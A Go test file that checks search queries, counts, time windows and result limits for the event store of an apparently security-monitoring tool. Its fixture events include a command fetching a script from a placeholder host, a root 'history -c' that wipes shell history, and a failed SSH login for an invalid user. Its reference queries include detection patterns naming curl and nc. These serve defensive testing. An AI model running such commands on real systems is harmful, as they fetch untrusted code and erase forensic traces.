package storetest

import (
	"context"
	"slices"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/query"
	"github.com/vigil-sec/vigil/internal/store"
)

// sampleEvents are the hand-checked events of the query language's own test.
func sampleEvents() []event.Event {
	t0 := time.Date(2026, 11, 1, 10, 0, 0, 0, time.UTC)
	mk := func(id string, min int, f func(*event.Event)) event.Event {
		e := event.Event{Timestamp: t0.Add(time.Duration(min) * time.Minute), Event: event.Meta{ID: id}}
		f(&e)
		return e
	}
	return []event.Event{
		mk("e1", 0, func(e *event.Event) {
			e.Event.Action = "exec"
			e.Event.Category = []string{"process"}
			e.Process = &event.Process{Name: "curl", PID: new(int64(100)), Args: []string{"curl", "-s", "http://x/a.sh"}, CommandLine: "curl -s http://x/a.sh"}
			e.User = &event.User{Name: "alice"}
		}),
		mk("e2", 1, func(e *event.Event) {
			e.Event.Action = "exec"
			e.Event.Category = []string{"process"}
			e.Process = &event.Process{Name: "bash", PID: new(int64(2000)), Args: []string{"bash", "-c", "history -c"}, CommandLine: "bash -c 'history -c'"}
			e.User = &event.User{Name: "root"}
		}),
		mk("e3", 2, func(e *event.Event) {
			e.Event.Action = "ssh_login"
			e.Event.Category = []string{"authentication"}
			e.Event.Outcome = "failure"
			e.Message = "Failed password for invalid user admin from 10.0.0.5 port 2222 ssh2"
			e.Source = &event.Endpoint{IP: "10.0.0.5", Port: new(int64(2222))}
		}),
		mk("e4", 3, func(e *event.Event) {
			e.Event.Action = "ssh_login"
			e.Event.Category = []string{"network", "authentication"}
			e.Event.Outcome = "success"
			e.Source = &event.Endpoint{IP: "192.168.1.9"}
			e.User = &event.User{Name: "alice_w"}
			e.Auditd = &event.Auditd{Data: map[string]string{"exe": "/usr/sbin/sshd", "a.b": "dotted"}}
		}),
	}
}

func testSampleQueries(t *testing.T, open Opener) {
	s, _ := newStore(t, open)
	ingestAll(t, s, "a", sampleEvents())
	tests := []struct {
		q    string
		want []string // newest first
	}{
		{"", []string{"e4", "e3", "e2", "e1"}},
		{"process.name:curl", []string{"e1"}},
		{"process.name:CURL", nil},
		{"process.name:cu*", []string{"e1"}},
		{"process.name:b?sh", []string{"e2"}},
		{"process.args:-c", []string{"e2"}},
		{"process.args:http*", []string{"e1"}},
		{`process.command_line:"HISTORY -C"`, []string{"e2"}},
		{"history", []string{"e2"}},
		{"his", []string{"e2"}},
		{"hi", []string{"e2"}},
		{`"invalid user admin"`, []string{"e3"}},
		{"event.action:ssh_login and not event.outcome:success", []string{"e3"}},
		{"event.action:(exec or ssh_login) and user.name:alice", []string{"e1"}},
		{"not user.name:alice", []string{"e4", "e3", "e2"}},
		{"user.name:alice_w", []string{"e4"}},
		{`user.name:alice\_w`, []string{"e4"}},
		{"user.name:alice?w", []string{"e4"}},
		{"user.name:alice*", []string{"e4", "e1"}},
		{"process.pid >= 1000", []string{"e2"}},
		{"process.pid:100", []string{"e1"}},
		{"source.port:*", []string{"e3"}},
		{"process.args:*", []string{"e2", "e1"}},
		{"source.ip:10.* or source.ip:192.168.*", []string{"e4", "e3"}},
		{"@timestamp >= 2026-11-01T10:02:00Z", []string{"e4", "e3"}},
		{"@timestamp < 2026-11-01T10:01:00Z", []string{"e1"}},
		{"auditd.data.exe:/usr/sbin/sshd", []string{"e4"}},
		{"auditd.data.a.b:dotted", []string{"e4"}},
		{"event.action:exec user.name:root", []string{"e2"}},
		{"(process.name:curl or process.name:bash) and not (user.name:root)", []string{"e1"}},
		{`message:"100%"`, nil},
		{"source.ip:10.0.0.5 and source.port:2222", []string{"e3"}},
		{"event.category:authentication", []string{"e4", "e3"}},
		{"event.category:network", []string{"e4"}},
		{"event.category:auth*", []string{"e4", "e3"}},
		{"event.category:*", []string{"e4", "e3", "e2", "e1"}},
		{"not event.category:process", []string{"e4", "e3"}},
		{"event.id:e2", []string{"e2"}},
		{"message:*password*", []string{"e3"}},
		{"message:FAILED*ADMIN", []string{"e3"}},
		{"process.command_line:*a.sh", []string{"e1"}},
	}
	for _, tt := range tests {
		t.Run(tt.q, func(t *testing.T) {
			got := searchAll(t, s, store.Search{Query: mustParse(t, tt.q), Limit: 3})
			if !slices.Equal(got, tt.want) {
				t.Errorf("%q: got %v, want %v", tt.q, got, tt.want)
			}
			n, err := s.Count(context.Background(), mustParse(t, tt.q), time.Time{}, time.Time{})
			if err != nil || n != int64(len(tt.want)) {
				t.Errorf("count %q = %d, %v; want %d", tt.q, n, err, len(tt.want))
			}
		})
	}
}

// referenceQueries exercise every query form over the corpus.
var referenceQueries = []string{
	"",
	"host.name:web-1",
	"host.id:id-db-1 and event.action:exec",
	"user.name:root",
	"user.name:alice*",
	"process.name:curl or process.name:nc",
	"process.name:(tar or grep) and not user.name:root",
	"process.executable:/usr/bin/py*",
	"process.args:/etc",
	"process.args:-l*",
	"process.command_line:history",
	`process.command_line:"100%.tgz"`,
	"process.command_line:*backup*tgz*",
	"password",
	`"invalid user"`,
	"ssh2",
	"nginx",
	"message:*192.168.*",
	"event.category:process",
	"event.category:network",
	"event.category:(file or network)",
	"event.category:process and event.action:connected",
	"event.outcome:failure and source.ip:10.0.0.5",
	"source.ip:10.*",
	"source.port >= 30000",
	"source.port < 2000 or destination.port:443",
	"destination.ip:203.0.113.2",
	"file.path:/etc/*",
	"file.path:/etc/ssh/sshd_config",
	"event.dataset:vigil.fim",
	"event.kind:event and not event.action:exec",
	"labels.env:prod",
	"labels.env:*",
	"auditd.data.syscall:execve",
	"auditd.data.a.b:dotted and user.name:bob",
	"process.pid > 4000",
	"process.pid <= 150",
	"process.working_directory:/home/x and process.name:ls",
	"not process.name:*",
	"not (host.name:web-1 or host.name:web-2) and user.name:*",
	"@timestamp >= 2026-11-02T06:00:00Z and @timestamp < 2026-11-02T07:00:00Z",
	"user.name > alice",
	"process.args >= python3",
}

func testReferenceQueries(t *testing.T, open Opener) {
	s, _ := newStore(t, open)
	evs := Corpus(3000, 7)
	ingestAll(t, s, "a", evs)
	from, to := Base.Add(20*time.Hour), Base.Add(50*time.Hour)
	for _, q := range referenceQueries {
		t.Run(q, func(t *testing.T) {
			n := mustParse(t, q)
			want := expected(evs, n, time.Time{}, time.Time{})
			got := searchAll(t, s, store.Search{Query: n, Limit: 1000})
			if !slices.Equal(got, want) {
				t.Errorf("%q: got %d hits, want %d (first got %v, want %v)", q, len(got), len(want), head(got), head(want))
			}
			if len(want) == 0 && q != "not process.name:*" {
				t.Errorf("%q: the corpus has no match; the case tests nothing", q)
			}
			c, err := s.Count(context.Background(), n, from, to)
			if w := len(expected(evs, n, from, to)); err != nil || c != int64(w) {
				t.Errorf("count %q in window = %d, %v; want %d", q, c, err, w)
			}
		})
	}
}

func head(ids []string) []string { return ids[:min(3, len(ids))] }

func testTimeRanges(t *testing.T, open Opener) {
	s, _ := newStore(t, open)
	evs := Corpus(1000, 3)
	ingestAll(t, s, "a", evs)
	// Bounds exactly on event times: from is inclusive, to exclusive.
	cases := [][2]time.Time{
		{evs[100].Timestamp, evs[200].Timestamp},
		{evs[0].Timestamp, evs[1].Timestamp},
		{Base.Add(24 * time.Hour), Base.Add(48 * time.Hour)},
		{Base.Add(23 * time.Hour), Base.Add(25 * time.Hour)},
		{time.Time{}, evs[500].Timestamp},
		{evs[999].Timestamp, time.Time{}},
		{Base.AddDate(-1, 0, 0), Base},
	}
	for _, c := range cases {
		want := expected(evs, query.All{}, c[0], c[1])
		got := searchAll(t, s, store.Search{Query: query.All{}, From: c[0], To: c[1], Limit: 400})
		if !slices.Equal(got, want) {
			t.Errorf("[%v, %v): got %d events, want %d", c[0], c[1], len(got), len(want))
		}
	}
}

func testLimits(t *testing.T, open Opener) {
	s, _ := newStore(t, open)
	evs := Corpus(300, 4)
	ingestAll(t, s, "a", evs)
	ctx := context.Background()
	for _, limit := range []int{1, 10, 299, 300} {
		res, err := s.Search(ctx, store.Search{Query: query.All{}, Limit: limit})
		if err != nil || len(res.Events) != limit {
			t.Fatalf("limit %d: %d events, %v", limit, len(res.Events), err)
		}
		if want := expected(evs, query.All{}, time.Time{}, time.Time{})[:limit]; res.Events[limit-1].Event.ID != want[limit-1] {
			t.Errorf("limit %d: last is %s, want %s", limit, res.Events[limit-1].Event.ID, want[limit-1])
		}
	}
	res, err := s.Search(ctx, store.Search{Query: query.All{}, Limit: 1000})
	if err != nil || len(res.Events) != 300 || res.Cursor != "" {
		t.Errorf("limit above the count: %d events, cursor %q, %v", len(res.Events), res.Cursor, err)
	}
	res, err = s.Search(ctx, store.Search{Query: query.All{}})
	if err != nil || len(res.Events) == 0 || len(res.Events) >= 300 {
		t.Errorf("default limit: %d events, %v", len(res.Events), err)
	}
	// The hit is the event as ingested.
	got := res.Events[0]
	want := evs[len(evs)-1]
	if got.Event.ID != want.Event.ID || !got.Timestamp.Equal(want.Timestamp) || got.Host.Name != want.Host.Name {
		t.Errorf("newest hit %+v, want %+v", got, want)
	}
}
